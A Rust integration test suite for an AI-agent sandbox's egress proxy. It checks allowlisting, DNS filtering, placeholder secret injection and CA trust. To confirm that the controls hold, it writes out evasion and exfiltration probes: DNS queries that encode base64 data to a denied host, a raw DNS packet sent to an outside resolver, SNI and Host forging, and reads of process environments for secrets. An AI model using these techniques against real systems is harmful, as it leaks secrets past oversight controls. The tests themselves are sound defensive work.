//! Egress from inside a real `agenthold/dev` container: allowed and denied names through the transparent
//! path and the explicit proxy with curl, Python and git; DNS; secrets seen only as placeholders inside
//! while the upstream receives the value; the CA installed and trusted, once, across a restart.

use agenthold_egress::datapath::{EnvValue, SANDBOX_ENV};
use agenthold_egress::log::{Decision, LogKind};
use agenthold_sandbox::tunnel::TunnelStatus;
use agenthold_testsupport::UPSTREAM_MARKER;
use sandboxd::contract;

use crate::probe::{host_addresses, primary_v4};
use crate::support::*;

/// `curl -sS -m 10 ARGS`, printing the HTTP status on a last line of its own.
async fn curl(env: &Env, agent: &agenthold_core::AgentId, args: &str) -> (Out, u16) {
    let out = env
        .sh(agent, &format!("curl -sS -m 10 -w '\\n%{{http_code}}' {args}"))
        .await;
    let status = out
        .stdout
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or(0);
    (out, status)
}

/// Paths the HTTPS (or HTTP) upstream of `allowed.test` received.
fn paths(server: &agenthold_testsupport::EchoServer) -> Vec<String> {
    server.requests().into_iter().map(|r| r.path).collect()
}

// covers: E2, E4, E5, E7, E8, E9
#[tokio::test]
#[ignore = "needs root and Docker: run with make test"]
async fn allowed_and_denied_names_with_curl_python_and_git() {
    let env = Env::start().await;
    env.guard(async {
        let agent = env.sandbox(None).await;
        let synthetic = env
            .sh(&agent, &format!("getent hosts {ALLOWED} | cut -d' ' -f1"))
            .await
            .ok();
        let synthetic = synthetic.stdout.trim().to_owned();
        assert!(
            synthetic.starts_with("198.18."),
            "{ALLOWED} resolves through the gateway: {synthetic:?}"
        );
        let primary = primary_v4(&host_addresses());

        // Allowed, both paths, both schemes.
        for (args, path) in [
            (format!("https://{ALLOWED}/curl-explicit"), "/curl-explicit"),
            (
                format!("--noproxy '*' https://{ALLOWED}/curl-transparent"),
                "/curl-transparent",
            ),
            // E5: the proxy dials what the name resolves to, never the address the client picked.
            (
                format!(
                    "--noproxy '*' --connect-to {ALLOWED}:443:{primary}:443 https://{ALLOWED}/addr-forged"
                ),
                "/addr-forged",
            ),
        ] {
            let (out, status) = curl(&env, &agent, &args).await;
            assert_eq!((out.code, status), (0, 200), "{args}:\n{out}");
            assert!(out.stdout.contains(UPSTREAM_MARKER), "{args}:\n{out}");
            assert!(
                paths(&env.up.https).iter().any(|p| p == path),
                "{path} did not reach the upstream"
            );
        }
        for (args, path) in [
            (
                format!("http://{ALLOWED}/curl-explicit-http"),
                "/curl-explicit-http",
            ),
            (
                format!("--noproxy '*' http://{ALLOWED}/curl-transparent-http"),
                "/curl-transparent-http",
            ),
        ] {
            let (out, status) = curl(&env, &agent, &args).await;
            assert_eq!((out.code, status), (0, 200), "{args}:\n{out}");
            assert!(
                paths(&env.up.http).iter().any(|p| p == path),
                "{path} did not reach the upstream"
            );
        }

        // Denied, every way we can think of; the canaries behind denied.test must stay silent.
        let (out, _) = curl(&env, &agent, &format!("https://{DENIED}/explicit")).await;
        assert!(
            out.code != 0 && out.stderr.contains("403"),
            "explicit CONNECT to {DENIED}:\n{out}"
        );
        let (out, _) = curl(
            &env,
            &agent,
            &format!("--noproxy '*' https://{DENIED}/transparent"),
        )
        .await;
        assert_eq!(out.code, 6, "E9: {DENIED} does not resolve:\n{out}");
        let forged =
            format!("--noproxy '*' --connect-to {DENIED}:443:{synthetic}:443 https://{DENIED}/sni-forged");
        let (out, status) = curl(&env, &agent, &forged).await;
        assert!(
            out.code != 0 || status != 200,
            "SNI {DENIED} at an allowed address:\n{out}"
        );
        let (_, status) = curl(&env, &agent, &format!("http://{DENIED}/explicit-http")).await;
        assert_eq!(status, 403, "absolute-form HTTP to {DENIED}");
        let forged =
            format!("--noproxy '*' --connect-to {DENIED}:80:{synthetic}:80 http://{DENIED}/host-forged");
        let (out, status) = curl(&env, &agent, &forged).await;
        assert!(
            out.code != 0 || status == 403,
            "Host {DENIED} at an allowed address:\n{out}"
        );
        let (out, status) = curl(&env, &agent, &format!("https://{ALLOWED}:8443/other-port")).await;
        assert!(
            out.code != 0 && status != 200,
            "{ALLOWED}:8443 is not on the allowlist:\n{out}"
        );

        // Python: urllib with the environment's proxy, urllib without it, requests.
        let program = format!(
            r#"
import urllib.request, requests
def get(opener, url):
    try:
        r = opener.open(url, timeout=10); return "%d %s" % (r.status, r.read().decode()[:200])
    except Exception as e:
        return "ERR %s" % type(e).__name__
explicit = urllib.request.build_opener()
transparent = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
print("explicit-ok", get(explicit, "https://{ALLOWED}/py-explicit"))
print("transparent-ok", get(transparent, "https://{ALLOWED}/py-transparent"))
print("explicit-denied", get(explicit, "https://{DENIED}/py-explicit"))
print("transparent-denied", get(transparent, "https://{DENIED}/py-transparent"))
print("requests-ok", requests.get("https://{ALLOWED}/py-requests", timeout=10).status_code)
try:
    requests.get("https://{DENIED}/py-requests", timeout=10); print("requests-denied reached")
except Exception as e:
    print("requests-denied ERR", type(e).__name__)
"#
        );
        let out = python(&env.runtime, &agent, &program).await.ok();
        for line in [
            "explicit-ok 200",
            "transparent-ok 200",
            "explicit-denied ERR",
            "transparent-denied ERR",
        ] {
            assert!(out.stdout.contains(line), "python: missing {line:?}:\n{out}");
        }
        assert!(
            out.stdout.contains("requests-ok 200") && out.stdout.contains("requests-denied ERR"),
            "{out}"
        );
        for path in ["/py-explicit", "/py-transparent", "/py-requests"] {
            assert!(
                paths(&env.up.https).iter().any(|p| p == path),
                "{path} did not reach the upstream"
            );
        }

        // git over HTTPS (the echo upstream is no git server: the request reaching it is what counts).
        let unset = "env -u https_proxy -u HTTPS_PROXY -u http_proxy -u HTTP_PROXY";
        let out = env
            .sh(
                &agent,
                &format!(
                    "git ls-remote https://{ALLOWED}/explicit.git; echo rc=$?; \
                     {unset} git ls-remote https://{ALLOWED}/transparent.git; echo rc=$?; \
                     git ls-remote https://{DENIED}/explicit.git; echo rc=$?; \
                     {unset} git ls-remote https://{DENIED}/transparent.git; echo rc=$?"
                ),
            )
            .await;
        for repo in ["/explicit.git/info/refs", "/transparent.git/info/refs"] {
            let seen = env
                .up
                .https
                .requests()
                .into_iter()
                .find(|r| r.path.starts_with(repo));
            let seen =
                seen.unwrap_or_else(|| panic!("git request {repo} did not reach the upstream:\n{out}"));
            assert!(
                seen.header("user-agent").is_some_and(|ua| ua.starts_with("git/")),
                "{seen:?}"
            );
        }

        // DNS: an allowed name resolves through the upstream; unlisted names never reach it (E9), also when
        // the query is sent to some other server.
        let out = env.sh(&agent, &format!("getent hosts {RESOLVED}")).await.ok();
        assert!(out.stdout.starts_with(&RESOLVED_ADDR.to_string()), "{out}");
        let out = env
            .sh(&agent, "getent hosts exfil-c2VjcmV0.denied.test; echo rc=$?")
            .await;
        assert!(out.stdout.contains("rc=2"), "an unlisted name resolved:\n{out}");
        let program = r#"
import socket, struct
q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in b"exfil-dGhlIGtleQ.denied.test".split(b"."):
    q += bytes([len(label)]) + label
q += b"\x00" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, ("9.9.9.9", 53))
r = s.recv(512)
print("rcode", r[3] & 0x0f)
"#;
        let out = python(&env.runtime, &agent, program).await.ok();
        assert!(
            out.stdout.contains("rcode 3"),
            "DNS to another server is answered by the gateway (NXDOMAIN):\n{out}"
        );
        let queries = env.up.dns.queries();
        assert!(queries.iter().any(|q| q.name == RESOLVED), "{queries:?}");
        assert!(
            queries
                .iter()
                .all(|q| !q.name.contains("denied") && !q.name.contains("exfil")),
            "{queries:?}"
        );

        assert_eq!(env.up.canary_requests(), 0, "a denied name reached its upstream");
        assert!(
            !paths(&env.up.http).iter().any(|p| p.contains("forged")),
            "{:?}",
            paths(&env.up.http)
        );
        let log = env.runtime.request_log(&agent);
        let denied = |kind: LogKind| {
            log.iter().any(|e| {
                e.kind == kind && e.decision == Decision::Denied && e.host.as_deref() == Some(DENIED)
            })
        };
        assert!(
            denied(LogKind::Connect) && denied(LogKind::Dns),
            "the log records the denials: {log:#?}"
        );
    })
    .await;
}

// covers: E10, E12, E13, E14, S2
#[tokio::test]
#[ignore = "needs root and Docker: run with make test"]
async fn secrets_are_placeholders_inside_and_the_ca_is_trusted_once() {
    let env = Env::start().await;
    env.guard(async {
        let agent = env.sandbox(None).await;
        assert!(env.tunnel_comes_up(&agent).await, "the tunnel does not come up");

        // Placeholders only, before any upstream could echo the value back into the sandbox.
        let out = env
            .sh(
                &agent,
                &format!("echo ${SECRET_ENV}; env | grep -c -E '{SECRET_REGEX}'"),
            )
            .await;
        let placeholder = out.stdout.lines().next().unwrap_or_default().to_owned();
        assert!(placeholder.starts_with("agenthold-placeholder-"), "{out}");
        assert_eq!(
            out.stdout.lines().nth(1),
            Some("0"),
            "the value is in the environment:\n{out}"
        );
        let out = env.sh(&agent, "cat /proc/1/environ >/dev/null; echo rc=$?").await;
        assert!(
            out.stdout.contains("rc=1") && out.stderr.contains("Permission denied"),
            "{out}"
        );
        let out = env
            .sh(
                &agent,
                &format!(
                    "grep -rlsE '{SECRET_REGEX}' /etc /root /tmp /workspace {} /var /run /opt; \
                     grep -lsE '{SECRET_REGEX}' /proc/[0-9]*/environ /proc/[0-9]*/cmdline; echo done",
                    contract::DIR
                ),
            )
            .await;
        assert_eq!(
            out.stdout.trim(),
            "done",
            "the value is in a file inside the sandbox:\n{out}"
        );
        let facts = container(&agent).await;
        let inspect = docker().await.inspect_container(&facts.id, None).await.unwrap();
        let engine_env = inspect.config.and_then(|c| c.env).unwrap_or_default().join("\n");
        assert!(
            engine_env.contains(&placeholder) && !engine_env.contains(SECRET_VALUE),
            "{engine_env}"
        );
        let on_disk = host(
            "grep",
            &["-rlaF", SECRET_VALUE, &env.dir.path().display().to_string()],
        );
        assert!(
            on_disk.stdout.is_empty(),
            "E10: the value is stored in clear: {on_disk:?}"
        );

        // Injection: header set, placeholder replaced in headers and query, over HTTPS on both paths.
        for (proxy, path) in [("", "/inject-explicit"), ("--noproxy '*'", "/inject-transparent")] {
            let header = format!("-H \"X-Key: ${SECRET_ENV}\"");
            let args = format!("{proxy} {header} \"https://{ALLOWED}{path}?key=${SECRET_ENV}\"");
            let (out, status) = curl(&env, &agent, &args).await;
            assert_eq!((out.code, status), (0, 200), "{out}");
            let seen = env
                .up
                .https
                .requests()
                .into_iter()
                .find(|r| r.path.starts_with(path));
            let seen = seen.expect("the request reached the upstream");
            assert_eq!(
                seen.header("authorization"),
                Some(format!("Bearer {SECRET_VALUE}").as_str())
            );
            assert_eq!(seen.header("x-key"), Some(SECRET_VALUE));
            assert_eq!(seen.path, format!("{path}?key={SECRET_VALUE}"));
        }
        // Never over plain HTTP: the placeholder is refused there, and nothing is injected.
        for proxy in ["", "--noproxy '*'"] {
            let args = format!("{proxy} -H \"X-Key: ${SECRET_ENV}\" http://{ALLOWED}/leak");
            let (_, status) = curl(&env, &agent, &args).await;
            assert_eq!(status, 403, "a placeholder over plain HTTP ({proxy:?})");
        }
        let (_, status) = curl(&env, &agent, &format!("http://{ALLOWED}/plain")).await;
        assert_eq!(status, 200);
        for r in env.up.http.requests() {
            let clean = r.path != "/leak" && r.header("authorization").is_none();
            assert!(clean, "plain HTTP carried a secret: {r:?}");
        }
        for r in env.up.https.requests() {
            let all = format!("{} {:?}", r.path, r.headers);
            assert!(
                !all.contains("agenthold-placeholder"),
                "a placeholder reached the upstream: {all}"
            );
        }
        let log = env.runtime.request_log(&agent);
        assert!(
            log.iter()
                .any(|e| e.secret_injected && e.secret.as_deref() == Some("api-key")),
            "{log:#?}"
        );

        // CA (E14): environment, files, the system store; once, also after a restart.
        let ca = env.runtime.ca_pem().to_owned();
        check_ca(&env, &agent, &ca).await;
        env.runtime.stop(&agent).await.unwrap();
        assert_eq!(env.runtime.tunnel_status(&agent), TunnelStatus::Disconnected);
        env.runtime.start(&agent).await.unwrap();
        check_ca(&env, &agent, &ca).await;
        let out = env.sh(&agent, &format!("echo ${SECRET_ENV}")).await.ok();
        assert_eq!(
            out.stdout.trim(),
            placeholder,
            "the placeholder survives a restart"
        );
    })
    .await;
}

/// The CA's environment, files and system-store entry, and that a client using only the system store
/// trusts an intercepted host.
async fn check_ca(env: &Env, agent: &agenthold_core::AgentId, ca: &str) {
    let out = env
        .sh(agent, "env | sort | grep -E '_CA_|CAINFO|SSL_CERT_FILE'")
        .await
        .ok();
    // The variables that replace a trust store name the bundle; Node's, which adds to it, the CA alone.
    for (var, value) in SANDBOX_ENV {
        let file = match value {
            EnvValue::CaBundle => contract::CA_BUNDLE,
            EnvValue::CaCert => contract::CA_FILE,
            EnvValue::Proxy | EnvValue::NoProxy => continue,
        };
        assert!(out.stdout.contains(&format!("{var}={file}\n")), "{var}:\n{out}");
    }
    let key_line = ca.lines().nth(1).expect("a PEM body");
    let out = env
        .sh(
            agent,
            &format!(
                "cd /usr/local/share/ca-certificates; \
                 for f in {} /etc/ssl/certs/ca-certificates.crt agenthold.crt; \
                 do echo \"$f $(grep -c -F '{key_line}' $f)\"; done",
                contract::CA_BUNDLE
            ),
        )
        .await;
    for file in [
        &format!("{} 1", contract::CA_BUNDLE),
        "/etc/ssl/certs/ca-certificates.crt 1",
        "agenthold.crt 1",
    ] {
        assert!(
            out.stdout.contains(file),
            "the CA is not there exactly once ({file}):\n{out}"
        );
    }
    let stdin_check = agenthold_core::sandbox::ExecRequest {
        argv: vec!["cmp".into(), contract::CA_FILE.into(), "-".into()],
        stdin: Some(ca.as_bytes().to_vec()),
        ..Default::default()
    };
    let same = env.runtime.exec_request(agent, stdin_check).await.unwrap();
    assert_eq!(same.exit_code, 0, "{} is not the runtime's CA", contract::CA_FILE);
    let out = env
        .sh(
            agent,
            &format!(
                "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE \
                 curl -sS -m 10 --noproxy '*' -o /dev/null -w '%{{http_code}}' \
                 https://{ALLOWED}/system-store"
            ),
        )
        .await;
    assert_eq!(
        out.stdout, "200",
        "the system store does not trust the CA:\n{out}"
    );
}
